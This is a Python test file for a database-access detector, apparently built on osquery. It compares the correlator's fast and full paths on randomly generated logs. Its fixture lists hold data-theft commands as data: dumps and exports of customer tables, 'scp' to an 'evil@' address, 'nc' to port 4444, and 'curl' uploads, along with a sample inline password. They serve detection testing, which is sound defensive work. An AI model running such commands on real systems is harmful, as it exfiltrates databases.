"""The correlator's fast path (correlate/fastpath.py) against the full path.

The full path (rows.parse_line, then Engine.step) is the definition. On random
logs mixing the common shapes with odd ones (numbers where text belongs,
missing columns, garbage times, other queries, resends, admins, service
accounts, allow rules, web-server parents, chains of every kind), feeding the
lines through FastPath.line (falling back to the full path where it declines)
must give exactly the same findings and the same host states.
"""

from __future__ import annotations

import json
import random
import re
import socket
from typing import Any, Callable

from hypothesis import given, settings
from hypothesis import strategies as st

from osq_dbwatch import policy
from osq_dbwatch.config import parse_config
from osq_dbwatch.correlate.engine import Engine, HostState, ipv4_value
from osq_dbwatch.correlate.fastpath import FastPath
from osq_dbwatch.correlate.findings import to_ocsf
from osq_dbwatch.correlate.rows import BadLine, parse_line

CONFIG = """
admins:
  users: [alice]
  groups: [dba]
service_accounts: [backup, nagios]
automation_windows:
  - days: [mon, tue, wed, thu, fri]
    start: "01:00"
    end: "03:30"
    tz: UTC
    users: [backup]
  - days: [sat, sun]
    start: "00:00"
    end: "23:59"
    tz: Europe/Berlin
    users: [nagios]
    hosts: ["db-1*"]
allow:
  - user: etl
    tool: psql
    parent: "/opt/etl/bin/nightly-export"
  - user: bob
    tool: mysql
    host: "app-2"
internal_networks: [10.0.0.0/8, 192.168.0.0/16]
correlator:
  max_pending_per_host: 3
  baseline_min_observations: 2
  baseline_novel_after: 1h
"""

T0 = 1793577600  # Monday 2026-11-02 00:00 UTC
HOSTS = ["db-10", "db-2", "app-2", "web-1"]
USERS = ["alice", "bob", "mallory", "backup", "nagios", "etl", "grace", "www-data", ""]
DB_COMMANDS = [
    ("/usr/bin/psql", "psql -h 127.0.0.1 -U app -d customers"),
    ("/usr/bin/psql", "psql -c \\copy users to /tmp/u.csv csv"),
    ("/usr/bin/pg_dump", "pg_dump -Fc -f /tmp/db.dump customers"),
    ("/usr/bin/mysql", "mysql -u root -pS3cret shop -e SELECT 1"),
    ("/usr/bin/mysqldump", "mysqldump --all-databases"),
    ("/usr/bin/mariadb", "mysql --defaults-file=/etc/nagios/my.cnf -e SHOW GLOBAL STATUS"),
    ("/usr/bin/redis-cli", "redis-cli -h 10.0.0.5 --rdb /tmp/dump.rdb"),
    ("/usr/bin/ls", "ls -la"),
    ("", "psql"),
    ("/usr/bin/psql", "psql -d shop -c " + "SELECT 1;" * 600),  # too long to be memoised
]
PARENTS = [
    ("/usr/bin/bash", "-bash"),
    ("/usr/bin/dash", "/bin/sh -c pg_dump -f /tmp/db.dump x > /tmp/out.sql"),
    ("/usr/sbin/nginx", "nginx: worker process"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/opt/etl/bin/nightly-export", "/opt/etl/bin/nightly-export"),
    ("/tmp/.x/run", "/tmp/.x/run"),
    ("", ""),
]
TRANSFERS = [
    ("/usr/bin/curl", "curl -T /tmp/u.csv https://files.example.net/u"),
    ("/usr/bin/curl", "curl -s http://10.1.2.3:8080/health"),
    ("/usr/bin/scp", "scp /tmp/db.dump evil@93.184.216.34:/x"),
    ("/usr/bin/gzip", "gzip -9 /tmp/db.dump"),
    ("/usr/bin/tar", "tar czf /tmp/out.tgz /tmp/u.csv"),
    ("/usr/bin/base64", "base64 -d"),
    ("/usr/bin/nc", "nc 8.8.8.8 4444"),
]
FILES = ["/tmp/u.csv", "/tmp/db.dump", "/tmp/db.dump.gz", "/var/www/html/x.sql", "/home/bob/.cache/x.json",
         "/tmp/out.sql", "/tmp/dump.rdb"]
ADDRESSES = ["93.184.216.34", "10.0.0.5", "8.8.8.8", "192.168.1.9", "127.0.0.1", "1.1.1.1", "::1",
             "2001:db8::1", "[8.8.4.4]", "010.1.1.1", " 8.8.8.8"]
ODD_VALUES: list[Any] = [None, True, 1.5, 7, [], {}, "", "x", "12", "012", "-3", "1e3", "٣"]


def _num(rng: random.Random, value: int, numerics: bool) -> Any:
    return value if numerics else str(value)


def _maybe_odd(rng: random.Random, columns: dict[str, Any], odd: float) -> None:
    if rng.random() < odd:
        key = rng.choice(sorted(columns))
        if rng.random() < 0.2:
            del columns[key]
        else:
            columns[key] = rng.choice(ODD_VALUES)


def random_log(seed: int, n: int, odd: float = 0.05) -> list[bytes]:
    rng = random.Random(seed)
    lines: list[bytes] = []
    t = T0 + rng.randrange(0, 7 * 86400)
    recent_pids: list[int] = [100]
    for _ in range(n):
        t += rng.choice([0, 1, 5, 30, 120, 600, 3600, 5 * 3600])
        host = rng.choice(HOSTS)
        numerics = rng.random() < 0.2
        user = rng.choice(USERS)
        uid = 1000 + USERS.index(user)
        session = rng.random() < 0.6
        pid = rng.choice(recent_pids) if rng.random() < 0.2 else rng.randrange(1, 99999)
        recent_pids = (recent_pids + [pid])[-8:]
        kind = rng.choices(["exec", "transfer", "file", "egress", "admin", "other"], [8, 3, 3, 3, 1, 1])[0]
        row_t = t - rng.randrange(0, 20)
        name = rng.choice(["pack_dbwatch_", "pack/Global/dbwatch_", ""])
        obj: dict[str, Any] = {"hostIdentifier": host, "unixTime": t if numerics else rng.choice([t, str(t)]),
                               "counter": 1, "numerics": numerics, "action": "added"}
        if kind in ("exec", "transfer"):
            path, cmdline = rng.choice(DB_COMMANDS if kind == "exec" else TRANSFERS)
            ppath, pcmd = rng.choice(PARENTS)
            columns: dict[str, Any] = {
                "auid": _num(rng, uid, numerics) if session else "4294967295", "cmdline": cmdline,
                "cwd": rng.choice(["/", "/tmp", "/home/bob"]), "euid": _num(rng, uid, numerics),
                "login_user": user if session else "", "parent": _num(rng, pid + 1, numerics),
                "parent_cmdline": pcmd, "parent_path": ppath, "path": path, "pid": _num(rng, pid, numerics),
                "time": _num(rng, row_t, numerics), "uid": _num(rng, uid, numerics), "username": user or "root",
            }
            name += "db_cli_exec" if kind == "exec" else "transfer_exec"
        elif kind == "file":
            columns = {"action": rng.choice(["CREATED", "UPDATED", "DELETED", "MOVED_TO"]),
                       "inode": _num(rng, rng.randrange(1, 50), numerics), "owner": rng.choice(USERS + ["mysql"]),
                       "sha256": rng.choice(["", "ab" * 32]), "size": _num(rng, rng.randrange(0, 10**7), numerics),
                       "target_path": rng.choice(FILES), "time": _num(rng, row_t, numerics),
                       "uid": _num(rng, uid, numerics)}
            if rng.random() < 0.3:
                columns["writer_pid"] = _num(rng, rng.choice(recent_pids), numerics)
            name += "dump_file_events"
        elif kind == "egress":
            columns = {"auid": _num(rng, uid, numerics) if session else "4294967295", "family": "2",
                       "login_user": user if session else "", "path": rng.choice([p for p, _ in TRANSFERS]),
                       "pid": _num(rng, rng.choice(recent_pids), numerics), "remote_address": rng.choice(ADDRESSES),
                       "remote_port": _num(rng, rng.choice([443, 80, 22, 5432]), numerics),
                       "success": rng.choice(["1", "0", 1, "", "-1"]), "time": _num(rng, row_t, numerics)}
            name += "db_egress"
        elif kind == "admin":
            obj["action"] = "snapshot"
            obj["unixTime"] = t - rng.choice([0, 0, 0, 7200])  # now and then an older snapshot arrives late
            members = [{"groupname": rng.choice(["dba", "root", "wheel"]), "username": u}
                       for u in rng.sample(USERS[:-1], rng.randrange(0, 3))]
            for member in members:
                _maybe_odd(rng, member, odd)
            if members and rng.random() < 0.3:
                columns = members[0]  # the one-row-a-line form
            else:
                obj["snapshot"] = members if rng.random() > odd else rng.choice(ODD_VALUES)
            name += "admin_accounts"
        else:
            columns = {"a": "1"}
            name += rng.choice(["osquery_info", "db_cli_sessions"])
        if kind != "admin" or "snapshot" not in obj:
            obj["columns"] = columns
            _maybe_odd(rng, columns, odd)
        obj["name"] = name
        if rng.random() < odd:
            key = rng.choice(["action", "hostIdentifier", "unixTime", "columns", "name", "snapshot"])
            if rng.random() < 0.3:
                obj.pop(key, None)
            else:
                obj[key] = rng.choice(ODD_VALUES)
        lines.append(json.dumps(obj).encode())
        if rng.random() < 0.05:
            lines.append(lines[-1])  # osquery resends
    return lines


def _feed(path: FastPath, data: bytes, fast: bool) -> None:
    try:
        if fast:
            path.apply_line(data)
        else:
            path.general(data)
    except BadLine:
        pass


def _run(lines: list[bytes], fast: bool) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    engine = Engine(parse_config(CONFIG))
    path = FastPath(engine)
    states: dict[str, HostState] = path.dirty  # the default open_host enters new states there
    findings: list[dict[str, Any]] = []
    for i, data in enumerate(lines):
        _feed(path, data, fast)
        if i % 50 == 49:  # flush now and then, as batches do
            for state in states.values():
                findings.extend(to_ocsf(f) for f in engine.flush(state))
    for state in states.values():
        findings.extend(to_ocsf(f) for f in engine.flush(state))
    return findings, {host: state.to_json() for host, state in sorted(states.items())}


def _same(lines: list[bytes]) -> None:
    full = _run(lines, fast=False)
    fast = _run(lines, fast=True)
    assert fast[0] == full[0]
    assert fast[1] == full[1]


def test_random_logs_give_identical_findings_and_state() -> None:
    for seed in range(12):
        lines = random_log(seed, 600)
        findings, _ = _run(lines, fast=False)
        _same(lines)
    assert findings  # the generator does produce chains


def test_clean_logs_give_identical_findings_and_state() -> None:
    for seed in range(100, 106):
        _same(random_log(seed, 800, odd=0.0))


@settings(max_examples=40, deadline=None)
@given(st.integers(min_value=0, max_value=2**32), st.floats(min_value=0.0, max_value=0.5))
def test_any_seed_and_oddness(seed: int, odd: float) -> None:
    _same(random_log(seed, 150, odd))


def _mutate(rng: random.Random, line: bytes) -> bytes:
    """Byte-level oddities the JSON generator cannot make."""
    body = line.rstrip()[:-1]
    choice = rng.randrange(8)
    if choice == 0:
        return body + b', "decorations": {"hostname": "x\xff\xfe"}}'  # not UTF-8 in a field nobody reads
    if choice == 1:
        return line.replace(b"psql", b"ps\xffql", 1).replace(b"/tmp/", b"/tmp/\xc3", 1)  # not UTF-8 where we read
    if choice == 2:
        return body + b', "name": "pack_dbwatch_db_egress"}'  # a key twice: the last one counts
    if choice == 3:
        return line.replace(b'"columns": {', b'"columns": {"extra": {"a": [1, {"b": null}]}, "pid": 1.5, ', 1)
    if choice == 4:
        return line.replace(b'"columns": {', b'"columns": {"pid": 123456789012345678901234567890, ', 1)
    if choice == 5:
        return body + b', "diffResults": {"added": [], "removed": []}}'
    if choice == 6:
        return body + b', "decorations": ' + b"[" * 2000 + b"]" * 2000 + b"}"
    return line.replace(b'"columns": {', b'"columns": {"auid": true, ', 1)


def test_byte_level_oddities_give_identical_findings_and_state() -> None:
    for seed in range(200, 206):
        rng = random.Random(seed)
        lines = [_mutate(rng, line) if rng.random() < 0.25 else line for line in random_log(seed, 400, odd=0.0)]
        _same(lines)


def test_bytes_that_are_not_utf8_do_not_hide_a_run() -> None:
    """An attacker's command line with bytes that are not UTF-8 still reaches the engine (as U+FFFD)."""
    line = json.dumps({"name": "pack_dbwatch_db_cli_exec", "hostIdentifier": "db-2", "unixTime": T0, "action": "added",
                       "columns": {"auid": "1003", "cmdline": "psql -c \\copy users to /tmp/u.csv csv", "cwd": "/",
                                   "login_user": "mallory", "parent_cmdline": "-bash", "parent_path": "/usr/bin/bash",
                                   "path": "/usr/bin/psql", "pid": "77", "time": str(T0), "uid": "1003",
                                   "username": "mallory"}}).encode().replace(b"users", b"us\xffers")
    findings, _ = _run([line], fast=True)
    assert len(findings) == 1
    assert "us\ufffders" in json.dumps(findings[0], ensure_ascii=False)


def _bad_utf8_access() -> bytes:
    return json.dumps({"name": "pack_dbwatch_db_cli_exec", "hostIdentifier": "db-2", "unixTime": T0, "action": "added",
                       "columns": {"auid": "1003", "cmdline": "psql -c \\copy users to /tmp/u.csv csv", "cwd": "/",
                                   "login_user": "mallory", "parent_cmdline": "-bash", "parent_path": "/usr/bin/bash",
                                   "path": "/usr/bin/psql", "pid": "77", "time": str(T0), "uid": "1003",
                                   "username": "mallory"}}).encode().replace(b"users", b"us\xffers")


class _OddLibraryError(Exception):
    """What some future JSON library release might raise for bytes that are not UTF-8."""


def _picky(decode: Callable[[bytes | str], Any]) -> Callable[[bytes | str], Any]:
    """`decode`, but raising an error type no reader knows for bytes that are not UTF-8."""

    def picky(data: bytes | str) -> Any:
        if isinstance(data, bytes):
            try:
                data.decode("utf-8")
            except UnicodeDecodeError:
                raise _OddLibraryError("invalid utf-8") from None
        return decode(data)

    return picky


def test_the_fast_path_reads_bad_bytes_whatever_the_decoder_raises() -> None:
    """The fast path takes a line with bytes that are not UTF-8 itself, as U+FFFD, not by the error's type."""
    engine = Engine(parse_config(CONFIG))
    path = FastPath(engine)
    states: dict[str, HostState] = path.dirty  # the default open_host enters new states there
    path._decode = _picky(path._decode)
    assert path.line(_bad_utf8_access()) is True
    findings = [to_ocsf(f) for state in states.values() for f in engine.flush(state)]
    assert len(findings) == 1 and "us\ufffders" in json.dumps(findings[0], ensure_ascii=False)


def test_the_full_path_reads_bad_bytes_whatever_the_library_raises(monkeypatch) -> None:
    """rows.parse_line retries bad bytes as U+FFFD for any exception type the library gives them."""
    from osq_dbwatch.correlate import jsonlib

    monkeypatch.setattr(jsonlib, "loads", _picky(jsonlib.loads))
    parsed = parse_line(_bad_utf8_access())
    assert len(parsed.rows) == 1 and "us\ufffders" in parsed.rows[0].cmdline
    with __import__("pytest").raises(BadLine, match="not valid JSON"):
        parse_line(b'{"name": "pack_dbwatch_db_cli_exec", "columns": {\xff')  # bad bytes and bad JSON: still bad


def test_bad_bytes_are_read_alike_with_and_without_msgspec(tmp_path) -> None:
    """The stdlib fallback and msgspec give the same finding, with U+FFFD, for a line that is not UTF-8."""
    import os
    import subprocess
    import sys

    log = tmp_path / "bad.log"
    log.write_bytes(_bad_utf8_access() + b"\n")
    cfg = tmp_path / "c.yml"
    cfg.write_text(CONFIG)
    outputs = []
    for block in (False, True):
        code = ("import sys\n" + ("import osq_dbwatch.config\nsys.modules['msgspec'] = None\n" if block else "") +
                "from osq_dbwatch.correlate import jsonlib\n"
                "assert jsonlib.NAME.startswith('json') == " + repr(block) + ", jsonlib.NAME\n"
                "from osq_dbwatch.cli import main\nsys.exit(main(sys.argv[1:]))")
        proc = subprocess.run([sys.executable, "-c", code, "correlate", "--config", str(cfg),
                               "--state", str(tmp_path / f"{block}.sqlite"), str(log)],
                              capture_output=True, env=dict(os.environ))
        assert proc.returncode == 0, proc.stderr
        outputs.append([json.loads(x) for x in proc.stdout.splitlines()])
    assert len(outputs[0]) == 1 and outputs[0] == outputs[1]
    assert "us\ufffders" in json.dumps(outputs[0][0], ensure_ascii=False)


def test_fast_path_takes_the_common_lines_and_declines_odd_ones() -> None:
    engine = Engine(parse_config(CONFIG))
    path = FastPath(engine)
    states: dict[str, HostState] = path.dirty  # the default open_host enters new states there
    clean = [line for line in random_log(7, 300, odd=0.0)]
    ours = [line for line in clean if json.loads(line)["name"].endswith(("exec", "events", "egress"))]
    assert sum(path.line(line) for line in ours) == len(ours) > 0
    before = {host: state.to_json() for host, state in states.items()}
    row = {"name": "pack_dbwatch_db_cli_exec", "hostIdentifier": "db-2", "unixTime": T0, "action": "added",
           "columns": {"auid": "1001", "cmdline": ["psql"], "cwd": "/", "login_user": "bob", "parent_cmdline": "",
                       "parent_path": "", "path": "/usr/bin/psql", "pid": "1", "time": str(T0), "uid": "1",
                       "username": "bob"}}
    for odd in (row, dict(row, action="removed"), dict(row, columns=None), [row], dict(row, hostIdentifier="")):
        assert path.line(json.dumps(odd).encode()) is False
    assert {host: state.to_json() for host, state in states.items()} == before  # declined lines touch nothing


@settings(max_examples=300, deadline=None)
@given(st.tuples(*[st.integers(min_value=0, max_value=255)] * 4), st.sampled_from(["", " ", "0", ":80", "\n"]))
def test_ipv4_fast_check_agrees_with_policy(octets: tuple[int, int, int, int], extra: str) -> None:
    engine = Engine(parse_config(CONFIG))
    for address in (".".join(map(str, octets)) + extra, extra + ".".join(map(str, octets))):
        assert engine.networks.external(address) == policy.is_external_address(engine.config, address)


_DOTTED_QUAD = re.compile(r"(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])")


@settings(max_examples=1000, deadline=None)
@given(st.one_of(
    st.text(alphabet="0123456789.", max_size=17),
    st.text(max_size=17),
    st.tuples(*[st.integers(min_value=0, max_value=300)] * 4).map(lambda o: ".".join(map(str, o))),
    st.tuples(*[st.sampled_from(["0", "00", "01", "9", "10", "99", "100", "199", "249", "255", "256", "٣"])] * 4)
    .map(".".join),
))
def test_ipv4_value_reads_plain_dotted_quads_only(address: str) -> None:
    plain = _DOTTED_QUAD.fullmatch(address) is not None
    expected = int.from_bytes(socket.inet_aton(address), "big") if plain else -1
    assert ipv4_value(address) == expected


def test_exec_memo_tells_runs_of_one_command_line_apart() -> None:
    from osq_dbwatch.correlate import classify as C

    base = {"path": "/usr/bin/psql", "cmdline": "psql -c 'select 1'", "cwd": "/", "uid": 1001, "username": "bob",
            "has_session": True, "login_user": "bob", "parent_path": "/usr/bin/bash", "parent_cmdline": "-bash",
            "ancestors": (), "unit": "", "tty": ""}

    def key(**changes: Any) -> tuple[Any, ...]:
        f = dict(base, **changes)
        return C.run_key(f["path"], f["cmdline"], f["cwd"], f["uid"], f["username"], f["has_session"], f["login_user"],
                         f["parent_path"], f["parent_cmdline"], f["ancestors"], f["unit"], f["tty"])

    def run(**changes: Any) -> C._MemoisedRun:
        return C._MemoisedRun(key(**changes), None)

    def get(memo: C.ExecMemo, **changes: Any) -> Any:
        return memo.find(dict(base, **changes)["cmdline"], key(**changes))  # the entry found, or None

    memo = C.ExecMemo()
    first = run()
    memo.put(base["cmdline"], first)
    assert get(memo) is first
    # Every invariant column takes part: changing any one of them is another run.
    others = {"path": "/x", "cmdline": "psql -l", "cwd": "/tmp", "uid": None, "username": "eve", "has_session": False,
              "login_user": "eve", "parent_path": "/bin/sh", "parent_cmdline": "sh", "ancestors": (("sh", "/bin/sh"),),
              "unit": "cron.service", "tty": "pts/0"}
    for name, value in others.items():
        assert get(memo, **{name: value}) is None, name
    # One command line keeps its MAX_VARIANTS newest variants.
    variants = [run(cwd=f"/d{i}") for i in range(C.MAX_VARIANTS)]
    for entry in variants:
        memo.put(base["cmdline"], entry)
    assert get(memo) is None
    assert [get(memo, cwd=f"/d{i}") for i in range(C.MAX_VARIANTS)] == variants
    assert memo.size == C.MAX_VARIANTS
    # The memo starts afresh when full.
    for i in range(C.MAX_KEYS - memo.size):
        memo.put(f"psql -d db{i}", run(cmdline=f"psql -d db{i}"))
    assert memo.size == C.MAX_KEYS
    after = run(cmdline="psql -l")
    memo.put("psql -l", after)
    assert memo.size == 1 and get(memo, cmdline="psql -l") is after
    assert get(memo, cwd="/d0") is None


def test_exec_memo_keeps_the_fast_paths_raw_columns_apart_from_a_typed_rows_values() -> None:
    """The fast path's key holds the uid and auid columns as logged; a typed row's the values read from them.

    auid 0 is a login session while a typed row's has_session False is none, and 0 == False: were the two forms
    alike, a run of one would take the other's memoised class (here, its user).
    """
    from osq_dbwatch.correlate import classify as C

    classes = Engine(parse_config(CONFIG)).classes
    columns = ("/usr/bin/psql", "psql -d shop -c 'select 1'", "/home/bob")
    typed = C.run_key(*columns, 0, "bob", False, "alice", "/usr/bin/bash", "-bash", (), "", "")
    fast = (*columns, 0, "bob", 0, "alice", "/usr/bin/bash", "-bash")
    no_session = classes.exec_class(False, typed)
    assert isinstance(no_session, C.AccessClass) and no_session.user == "bob"
    in_session = classes.exec_class(False, fast)
    assert isinstance(in_session, C.AccessClass) and in_session.user == "alice"
    # and each form finds its own entry again, uid and auid read alike ("0" and 0 as logged)
    assert classes.exec_class(False, typed) is no_session
    assert classes.exec_class(False, (*columns, "0", "bob", "0", "alice", "/usr/bin/bash", "-bash")).user == "alice"


def test_decorations_are_read_when_their_bytes_change_and_their_host_uuid_reaches_a_fresh_state() -> None:
    """The memo is the state's own (HostState.decorations): no table keyed by host, nothing to clear at a
    size, and a state opened afresh (a later batch, a packed or stored one) reads the decorations again."""
    engine = Engine(parse_config(CONFIG))
    path = FastPath(engine)
    states: dict[str, HostState] = path.dirty  # the default open_host enters new states there
    decoded: list[bytes] = []
    decode = path._decorations_decode

    def counting(raw: Any) -> Any:
        decoded.append(bytes(raw))
        return decode(raw)

    path._decorations_decode = counting

    def connect(t: int, decorations: dict[str, str]) -> bytes:
        return json.dumps({"name": "pack_dbwatch_db_egress", "hostIdentifier": "db-1", "unixTime": T0 + t,
                           "decorations": decorations, "action": "added",
                           "columns": {"path": "/usr/bin/ssh", "pid": "7", "remote_address": "10.0.0.9",
                                       "success": "1", "time": str(T0 + t)}}).encode()

    # Decorations without a host_uuid (hostname only): read once, not on every line.
    assert all(path.line(connect(t, {"hostname": "db-1"})) for t in range(3))
    assert len(decoded) == 1 and states["db-1"].host_uuid == ""
    # New bytes are read once; a state opened afresh (a later batch) gets the host_uuid they carried.
    assert all(path.line(connect(t, {"host_uuid": "U-1", "hostname": "db-1"})) for t in range(3, 5))
    assert len(decoded) == 2 and states["db-1"].host_uuid == "U-1"
    states.clear()
    assert path.line(connect(5, {"host_uuid": "U-1", "hostname": "db-1"}))
    assert len(decoded) == 3 and states["db-1"].host_uuid == "U-1"
    # A full-path line in between that set another host_uuid: the same bytes give theirs back, unread.
    states["db-1"].host_uuid = "U-OTHER"
    assert path.line(connect(6, {"host_uuid": "U-1", "hostname": "db-1"}))
    assert len(decoded) == 3 and states["db-1"].host_uuid == "U-1"
